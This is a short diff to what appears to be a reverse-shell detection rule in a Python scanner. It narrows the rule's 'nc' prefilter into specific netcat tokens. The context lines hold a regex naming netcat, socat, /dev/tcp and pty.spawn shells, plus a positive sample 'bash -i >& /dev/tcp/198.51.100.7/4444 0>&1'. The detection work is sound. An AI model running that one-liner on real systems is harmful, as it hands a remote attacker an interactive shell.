@@ -219,7 +219,10 @@ RULES: Final[tuple[Rule, ...]] = (
         r"|\b(?:nc|ncat|netcat)(?:\.exe|\.traditional)?\s[^\n;|]{0,60}"
         r"-[a-z]{0,4}[ec]\s{0,4}(?:/bin/|cmd|(?:ba)?sh\b|powershell)|\b0<&\d{2,3}-|\bexec \d{1,3}<>/dev"
         r"|pty\.spawn\(|\bsocat\s[^\n]{0,60}exec:",
-        needs=("/dev/", "bash -i", "mkfifo", "nc", "netcat", "0<&", "pty.spawn", "socat"),
+        needs=(
+            *("/dev/", "bash -i", "mkfifo", "0<&", "pty.spawn", "socat", "netcat", "ncat"),
+            *("nc ", "nc\t", "nc\n", "nc\r", "nc\f", "nc.exe", "nc.traditional"),
+        ),
         why="A shell whose input and output is a connection to the attacker.",
         positives=(
             "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
